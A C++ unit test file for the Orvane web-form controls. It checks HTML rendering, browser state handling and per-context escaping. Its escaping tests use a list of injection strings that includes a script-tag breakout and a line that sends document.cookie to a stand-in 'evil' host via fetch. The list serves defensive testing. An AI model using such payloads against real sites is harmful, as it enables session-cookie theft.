// The five input web controls on a web form: their HTML built from the
// placeholder, the browser states they take, the statements they push, and
// every text escaped for where it goes (HTML-escaped in the page,
// JSON-quoted in pushed scripts).
#include <gtest/gtest.h>

#include <nlohmann/json.hpp>

#include "orvane/controls/Orvane.Button.h"
#include "orvane/controls/Orvane.CheckBox.h"
#include "orvane/controls/Orvane.Combobox.h"
#include "orvane/controls/Orvane.Edit.h"
#include "orvane/controls/Orvane.Forms.h"
#include "orvane/controls/Orvane.Text.h"
#include "platform/db/DateTime.h"

using namespace orvane;

namespace {

// Texts that break a page or a script when inserted unescaped.
const std::vector<std::string> kHostile = {"Rua \"Sete\"",
                                           "d'Ávila",
                                           "a`b",
                                           "${alert(1)}",
                                           "</script><script>x()</script>",
                                           "linha 1\nlinha 2\r\n",
                                           "ação & <b>",
                                           "x\";fetch('//evil/'+document.cookie);\""};

// The value of the first JSON string literal after AMarker in AScript.
std::string LiteralAfter(const std::string& AScript, const std::string& AMarker) {
  size_t at = AScript.find(AMarker);
  EXPECT_NE(at, std::string::npos) << AScript;
  if (at == std::string::npos) return "<none>";
  size_t start = AScript.find('"', at + AMarker.size());
  // The literal runs to the first quote not escaped.
  size_t end = start + 1;
  while (end < AScript.size() && AScript[end] != '"') end += AScript[end] == '\\' ? 2 : 1;
  return nlohmann::json::parse(AScript.substr(start, end - start + 1)).get<std::string>();
}

bool HasRawHTML(const std::string& AText) {
  return AText.find_first_of("<>\"'") != std::string::npos;
}

// The text between AOpen and AClose, for an element's content.
std::string Between(const std::string& AText, const std::string& AOpen, const std::string& AClose) {
  size_t a = AText.find(AOpen);
  if (a == std::string::npos) return "<none>";
  a += AOpen.size();
  return AText.substr(a, AText.find(AClose, a) - a);
}

class InputControls : public ::testing::Test {
 protected:
  void SetUp() override { Form = new TOrvaneForm(nullptr); }
  void TearDown() override { Form->Free(); }

  template <class T>
  T* Add(const std::string& AName, const std::string& AAttributes = "class=\"form-control\"") {
    auto* c = new T(Form);
    c->SetName(AName);
    Placeholders[AName] = AAttributes;
    return c;
  }
  void Render(TOrvaneControl* AControl) {
    AControl->FormatHTMLControl("{%" + AControl->GetName() + " " +
                                Placeholders[AControl->GetName()] + "%}");
  }
  static std::vector<std::string> Pass(TOrvaneControl* AControl, bool AForce = false) {
    TStringList list;
    AControl->UpdateServerControls(list, AForce);
    return list;
  }

  TOrvaneForm* Form = nullptr;
  std::map<std::string, std::string> Placeholders;
};

}  // namespace

TEST_F(InputControls, ComboboxOptionsPlaceholderAndSelection) {
  auto* c = Add<TOrvaneCombobox>("cbbTipo", "class=\"form-select\"");
  core::TStrings items{"A", "B", "C"};
  std::string selected = "B";
  c->ProcGetItems = [&] { return &items; };
  c->ProcGetSelectedItem = [&] { return TOrvaneVariant(selected); };
  Render(c);
  EXPECT_EQ(c->GetHTMLControl(),
            "<select  class=\"form-select\" id=\"CBBTIPO\"  aria-label=\"Selecione\" >"
            "<option value=\"1\">A</option><option selected value=\"2\">B</option>"
            "<option value=\"3\">C</option></select>");
  // No selection, and a selection the list does not hold: the placeholder
  // shows, never the first item.
  for (const char* none : {"", "Z"}) {
    selected = none;
    Render(c);
    EXPECT_NE(
        c->GetHTMLControl().find(
            "aria-label=\"Selecione\" ><option hidden disabled selected value>Selecione</option>"
            "<option value=\"1\">A</option>"),
        std::string::npos)
        << none << ": " << c->GetHTMLControl();
  }
}

TEST_F(InputControls, ComboboxTakesThePositionTheBrowserReports) {
  auto* c = Add<TOrvaneCombobox>("cbbTipo");
  core::TStrings items{"A", "B", "C"};
  std::vector<std::string> written;
  c->ProcGetItems = [&] { return &items; };
  c->ProcSetSelectedItem = [&](const TOrvaneVariant& V) { written.push_back(VarToStr(V)); };
  struct {
    nlohmann::json Index;
    std::string Selected;
  } cases[] = {{"2", "B"}, {"", ""},   {"3", "C"}, {"0", ""},    {3, "C"},   {"4", ""},
               {"1", "A"}, {"-1", ""}, {"2", "B"}, {"dois", ""}, {"2x", ""}, {nullptr, ""}};
  for (const auto& k : cases) {
    c->ProcessComponentState({{"id", "CBBTIPO"}, {"selecteditemindex", k.Index}});
    EXPECT_EQ(c->GetSelectedItem(), k.Selected) << k.Index.dump();
  }
  // Only changes reach the desktop.
  EXPECT_EQ(written, (std::vector<std::string>{"B", "", "C", "", "C", "", "A", "", "B", ""}));
  // A record without the key changes nothing.
  c->ProcessComponentState({{"id", "CBBTIPO"}, {"text", "2"}});
  EXPECT_EQ(written.size(), 10u);
}

TEST_F(InputControls, ComboboxPushesAPositionOnlyWhenAnOptionHoldsIt) {
  auto* c = Add<TOrvaneCombobox>("cbbTipo");
  core::TStrings items{"A", "B", "C"};
  std::string selected = "A";
  c->ProcGetItems = [&] { return &items; };
  c->ProcGetSelectedItem = [&] { return TOrvaneVariant(selected); };
  Render(c);
  EXPECT_TRUE(Pass(c).empty());
  selected = "c";  // the list's search ignores case
  EXPECT_EQ(Pass(c),
            std::vector<std::string>{"document.getElementById(\"CBBTIPO\").value = \"3\";"});
  // Not in the list: the options again, with the placeholder selected.
  selected = "Z";
  auto pushed = Pass(c);
  ASSERT_EQ(pushed.size(), 1u);
  EXPECT_EQ(
      LiteralAfter(pushed[0], ".innerHTML = "),
      "<option hidden disabled selected value>Selecione</option><option value=\"1\">A</option>"
      "<option value=\"2\">B</option><option value=\"3\">C</option>");
  // A new item: one replacement of the options, which carries the selection.
  selected = "B";
  items.Add("D & E");
  pushed = Pass(c);
  ASSERT_EQ(pushed.size(), 1u);
  EXPECT_EQ(LiteralAfter(pushed[0], ".innerHTML = "),
            "<option value=\"1\">A</option><option selected value=\"2\">B</option>"
            "<option value=\"3\">C</option><option value=\"4\">D &amp; E</option>");
  EXPECT_TRUE(Pass(c).empty());
  EXPECT_EQ(Pass(c, true).size(), 1u);
}

TEST_F(InputControls, EditTextCaseDatesAndPasswords) {
  auto* e = Add<TOrvaneEdit>("edtNome");
  std::string text = "Ana";
  std::vector<TOrvaneVariant> written;
  e->ProcGetText = [&] { return TOrvaneVariant(text); };
  e->ProcSetText = [&](const TOrvaneVariant& V) {
    written.push_back(V);
    text = VarToStr(V);
  };
  e->SetCharCase(TEditCharCase::ecUpperCase);
  Render(e);
  EXPECT_EQ(e->GetHTMLControl(),
            "<input class=\"text-uppercase form-control\" id=\"EDTNOME\"    value = \"Ana\"/>");
  EXPECT_EQ(e->GetHTMLCore().find("text-uppercase"), std::string::npos);
  e->ProcessComponentState({{"id", "EDTNOME"}, {"text", "ANA MARIA"}});
  EXPECT_EQ(text, "ANA MARIA");
  EXPECT_TRUE(Pass(e).empty());  // what the browser sent is not echoed

  // A date edit shows the desktop's date as the date input takes it.
  auto* d = Add<TOrvaneEdit>("edtData");
  d->SetEditDataType(TOrvaneFieldType::OrvaneFieldTypeDate);
  std::string date = "05/03/2024";
  TOrvaneVariant dateWritten;
  d->ProcGetText = [&] { return TOrvaneVariant(date); };
  d->ProcSetText = [&](const TOrvaneVariant& V) { dateWritten = V; };
  Render(d);
  EXPECT_NE(d->GetHTMLControl().find("type=\"date\"  value = \"2024-03-05\""), std::string::npos)
      << d->GetHTMLControl();
  d->ProcessComponentState({{"id", "EDTDATA"}, {"text", "2024-03-06"}});
  ASSERT_TRUE(std::holds_alternative<double>(dateWritten));
  EXPECT_EQ(db::DateToStr(std::get<double>(dateWritten)), "06/03/2024");
  // Not a date: refused, and the page gets the desktop's date back.
  EXPECT_THROW(d->ProcessComponentState({{"id", "EDTDATA"}, {"text", "31/02"}}), EConvertError);
  date = "not a date";
  EXPECT_EQ(d->GetText(), "");

  // A password is never written into the page nor pushed to it; what the
  // browser types still reaches the desktop.
  auto* p = Add<TOrvaneEdit>("edtSenha");
  p->SetEditDataType(TOrvaneFieldType::OrvaneFieldTypePassword);
  std::string secret = "ketil";
  p->ProcGetText = [&] { return TOrvaneVariant(secret); };
  p->ProcSetText = [&](const TOrvaneVariant& V) { secret = VarToStr(V); };
  Render(p);
  EXPECT_EQ(p->GetHTMLControl(),
            "<input class=\"form-control\" id=\"EDTSENHA\"  type=\"password\"  value = \"\"/>");
  secret = "outra";
  EXPECT_TRUE(Pass(p).empty());
  EXPECT_TRUE(Pass(p, true).empty());
  p->ProcessComponentState({{"id", "EDTSENHA"}, {"text", "bryn"}});
  EXPECT_EQ(secret, "bryn");
}

TEST_F(InputControls, CheckBoxStatesAndForcedPass) {
  auto* c = Add<TOrvaneCheckBox>("chkAtivo", "class=\"form-check-input\"");
  bool checked = true;
  int writes = 0;
  c->ProcGetText = [] { return TOrvaneVariant(std::string("Ativo")); };
  c->ProcGetChecked = [&] { return TOrvaneVariant(checked); };
  c->ProcSetChecked = [&](const TOrvaneVariant& V) {
    ++writes;
    checked = VarToBool(V);
  };
  Render(c);
  EXPECT_EQ(c->GetHTMLControl(),
            "<div class=\"form-check form-switch\">\r\n<input class=\"form-check-input\" "
            "id=\"CHKATIVO\"  type=\"checkbox\" role=\"switch\" checked>\r\n<label "
            "class=\"form-check-label\" for=\"CHKATIVO\">Ativo</label>\r\n</div>");
  struct {
    nlohmann::json Value;
    bool Checked;
  } cases[] = {{false, false}, {"TRUE", true}, {"sim", false}, {true, true}, {"true", true}};
  for (const auto& k : cases) {
    c->ProcessComponentState({{"id", "CHKATIVO"}, {"checked", k.Value}});
    EXPECT_EQ(checked, k.Checked) << k.Value.dump();
  }
  EXPECT_EQ(writes, 4);  // changes only
  EXPECT_TRUE(Pass(c).empty());
  EXPECT_EQ(Pass(c, true),
            (std::vector<std::string>{
                "document.querySelector(\"label[for=\\\"CHKATIVO\\\"]\").textContent = \"Ativo\";",
                "document.getElementById(\"CHKATIVO\").checked = true;"}));
}

TEST_F(InputControls, ControlsWithoutHooksKeepTheirOwnValues) {
  auto* e = Add<TOrvaneEdit>("edtA");
  auto* l = Add<TOrvaneLabel>("lblA");
  auto* k = Add<TOrvaneCheckBox>("chkA");
  auto* c = Add<TOrvaneCombobox>("cbbA");
  c->StoredItems().Add("Um");
  for (TOrvaneControl* control : std::initializer_list<TOrvaneControl*>{e, l, k, c})
    Render(control);
  e->SetText("digitado");
  EXPECT_EQ(e->GetText(), "digitado");
  EXPECT_EQ(l->GetText(), "");
  EXPECT_FALSE(k->GetChecked());
  c->ProcessComponentState({{"id", "CBBA"}, {"selecteditemindex", "1"}});
  EXPECT_EQ(c->GetSelectedItem(), "Um");
  for (TOrvaneControl* control : std::initializer_list<TOrvaneControl*>{e, l, k, c})
    EXPECT_TRUE(Pass(control).empty()) << control->GetName();
}

TEST_F(InputControls, EveryTextIsEscapedWhereItGoes) {
  std::string text;
  auto get = [&] { return TOrvaneVariant(text); };
  auto* b = Add<TOrvaneButton>("btnA", "class=\"btn\"");
  auto* e = Add<TOrvaneEdit>("edtA");
  e->ProcGetText = get;
  auto* l = Add<TOrvaneLabel>("lblA");
  l->ProcGetText = get;
  auto* k = Add<TOrvaneCheckBox>("chkA");
  k->ProcGetText = get;
  auto* c = Add<TOrvaneCombobox>("cbbA");
  core::TStrings items;
  c->ProcGetItems = [&] { return &items; };
  c->ProcGetSelectedItem = get;
  for (const std::string& hostile : kHostile) {
    SCOPED_TRACE(hostile);
    text = hostile;
    items.Clear();
    items.Add(hostile);
    b->SetCaption(hostile);
    for (TOrvaneControl* control : std::initializer_list<TOrvaneControl*>{b, e, l, k, c})
      Render(control);
    // In the page: HTML-escaped element content, attribute values and
    // option texts.
    EXPECT_FALSE(
        HasRawHTML(Between(b->GetHTMLControl(), "class=\"btn\" id=\"BTNA\" >", "</button>")));
    EXPECT_FALSE(HasRawHTML(Between(e->GetHTMLControl(), "value = \"", "\"/>")));
    EXPECT_FALSE(HasRawHTML(Between(l->GetHTMLControl(), "id=\"LBLA\" >", "</span>")));
    EXPECT_FALSE(HasRawHTML(Between(k->GetHTMLControl(), "for=\"CHKA\">", "</label>")));
    EXPECT_FALSE(HasRawHTML(Between(c->GetHTMLControl(), "value=\"1\">", "</option>")));
    // Pushed: a JSON string literal that gives the text back exactly.
    text = hostile + "!";
    items.Clear();
    items.Add(text);
    EXPECT_EQ(LiteralAfter(Pass(e).at(0), ".value = "), text);
    EXPECT_EQ(LiteralAfter(Pass(l).at(0), ".textContent = "), text);
    EXPECT_EQ(LiteralAfter(Pass(k).at(0), ".textContent = "), text);
    std::string options = LiteralAfter(Pass(c).at(0), ".innerHTML = ");
    EXPECT_FALSE(HasRawHTML(Between(options, "value=\"1\">", "</option>"))) << options;
  }
}
